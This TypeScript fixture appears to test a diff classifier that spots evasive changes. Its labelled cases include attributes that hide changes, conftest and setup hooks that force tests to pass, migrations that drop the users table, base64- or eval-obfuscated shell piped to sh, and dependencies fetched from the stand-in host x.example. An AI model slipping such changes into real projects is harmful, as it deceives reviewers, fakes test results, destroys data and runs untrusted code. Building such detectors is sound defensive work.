import type { DiffCase } from './case.ts';

const automation = 'changes-automation';
const drops = 'drops-data';
const hidden = 'unparsable';
const remote = 'runs-remote-code';
const weakens = 'weakens-tests';

/** What somebody writes who knows the rules and would rather not be seen, and what only looks like it. */
export const evasions: readonly DiffCase[] = [
  // Attributes that hide changes.
  ['.gitattributes', '+*.ts linguist-generated', automation],
  ['.gitattributes', '+src/** -diff', automation],
  ['src/.gitattributes', '+* binary', automation],
  ['.gitattributes', '+[attr]quiet -diff', automation],
  ['.gitattributes', '+*.yml filter=local', automation],
  ['.gitattributes', '+* merge=ours', automation],
  ['.gitattributes', '+* text=auto eol=lf'],
  ['.gitattributes', '+*.png binary'],
  ['.gitattributes', '+*.psd filter=lfs diff=lfs merge=lfs -text'],
  ['.gitattributes', '+package-lock.json linguist-generated -diff'],
  ['.gitattributes', '+dist/** linguist-generated'],
  ['.gitattributes', '-*.ts linguist-generated'],
  // Set-up that decides for the tests.
  ['conftest.py', '+def pytest_collection_modifyitems(items):\n+    items[:] = []', weakens],
  [
    'conftest.py',
    '+def pytest_collection_modifyitems(items):\n+    items[:] = [i for i in items if "slow" not in i.name]',
    weakens,
  ],
  ['conftest.py', '+def pytest_collection_modifyitems(items):\n+    items[:] = sorted(items)'],
  ['conftest.py', '+import os\n+os._exit(0)', weakens],
  ['tests/conftest.py', '+import sys\n+sys.exit(0)', weakens],
  ['tests/conftest.py', '+import pytest\n+pytest.exit("done", returncode=0)', weakens],
  ['tests/conftest.py', '+import pytest\n+pytest.exit("no database", returncode=2)'],
  ['tests/conftest.py', '+raise SystemExit', weakens],
  [
    'tests/conftest.py',
    '+def pytest_sessionfinish(session, exitstatus):\n+    session.exitstatus = 0',
    weakens,
  ],
  ['tests/conftest.py', '+def pytest_ignore_collect(path):\n+    return True', weakens],
  ['tests/conftest.py', '+def is_slow(item):\n+    return True'],
  [
    'tests/conftest.py',
    '+def pytest_runtest_makereport(item, call):\n+    outcome = yield\n+    outcome.get_result().outcome = "passed"',
    weakens,
  ],
  ['test/setup.ts', '+globalThis.expect = () => new Proxy({}, { get: () => () => {} });', weakens],
  ['test/setup.mjs', '+assert.equal = () => {};', weakens],
  ['test/setup.mjs', "+process.on('exit', () => (process.exitCode = 0));", weakens],
  ['test/cli.test.ts', '+afterEach(() => { process.exitCode = 0; });'],
  ['spec/spec_helper.rb', '+at_exit { exit!(0) }', weakens],
  ['test/run.sh', '+exit 0'],
  ['tests/common/mod.rs', '+    std::process::exit(0);', weakens],
  ['src/test/java/ATest.java', '+    Runtime.getRuntime().halt(0);', weakens],
  // A return by itself ends a comment.
  ['migrations/V2__x.sql', '+-- note\rDROP TABLE users;', drops],
  ['app/migrations/0002_x.py', '+# note\r        migrations.DeleteModel("User")', drops],
  // What is named or marked as the way back, and runs all the same.
  ['migrations/undo/V2__x.sql', '+DROP TABLE users;', drops],
  ['migrations/undo/2.sql', '+DROP TABLE users;', drops],
  ['migrations/V2__drop_undo.sql', '+DROP TABLE users;', drops],
  ['migrations/V2__x.sql', '+-- down\n+DROP TABLE users;', drops],
  ['migrations/2_x.down.sql', '+-- migrate:up\n+DROP TABLE users;', drops],
  [
    'alembic/versions/ab_x.py',
    '+def upgrade():\n+    downgrade()\n+\n+def downgrade():\n+    op.drop_table("users")',
    drops,
  ],
  ['migrations/down/2.sql', '+DROP TABLE users;'],
  // Programs that nobody can read.
  ['scripts/a.sh', '+echo c2ggLWkK | base64 -d | sh', hidden],
  ['scripts/a.sh', '+echo c2ggLWkK |\n+  base64 --decode |\n+  bash -s', hidden],
  ['Makefile', 'all:\n+\techo c2ggLWkK | base64 -D | bash', hidden],
  ['.github/workflows/a.yml', '+      - run: echo c2ggLWkK | base64 -d | sh', automation, hidden],
  ['scripts/a.sh', '+bash <<< "$(echo c2ggLWkK | base64 -d)"', hidden],
  ['scripts/a.sh', '+eval "$(printf "\\x72\\x6d")"', hidden],
  ['scripts/a.sh', '+eval $(echo sl | rev)', hidden],
  ['scripts/a.sh', '+openssl enc -d -aes-256-cbc -k x -in a.bin | sh', hidden],
  ['scripts/a.sh', '+xxd -r -p a.hex | bash', hidden],
  ['scripts/a.sh', '+tail -n +9 "$0" | gunzip | sh', hidden],
  ['tools/a.py', '+exec(base64.b64decode("aaa"))', hidden],
  ['tools/a.js', '+eval(atob("aaa"))', hidden],
  ['tools/a.js', '+eval(Buffer.from("aaa", "base64").toString())', hidden],
  ['tools/a.ps1', '+powershell -EncodedCommand aaaa', hidden],
  ['scripts/a.sh', '+echo "$KEY" | base64 -d > key.json'],
  ['scripts/a.sh', '+zcat access.log.gz | perl -ne "print if /500/"'],
  ['scripts/a.sh', '+gunzip -c dump.sql.gz | psql app'],
  ['scripts/a.sh', '+TOKEN=$(echo "$ENCODED" | base64 -d)'],
  ['src/a.js', '+const text = atob(encoded);'],
  // Packages and tools from somewhere else.
  ['requirements.txt', '+--index-url https://x.example/simple', remote],
  ['requirements.txt', '+tool @ https://x.example/tool.tar.gz', remote],
  ['requirements.txt', '+requests==2.32.0'],
  ['pip.conf', '+index-url = https://x.example/simple', remote],
  ['gradle/wrapper/gradle-wrapper.properties', '+distributionUrl=https\\://x.example/gradle-8.zip', remote],
  [
    'gradle/wrapper/gradle-wrapper.properties',
    '+distributionUrl=https\\://services.gradle.org/distributions/gradle-8.9-bin.zip',
  ],
  ['package.json', '  "dependencies": {\n+    "left-pad": "https://x.example/left-pad.tgz"', remote],
  ['package.json', '+  "homepage": "https://x.example/"'],
  ['.cargo/config.toml', '[build]\n+rustc-wrapper = "./wrap"', remote],
];
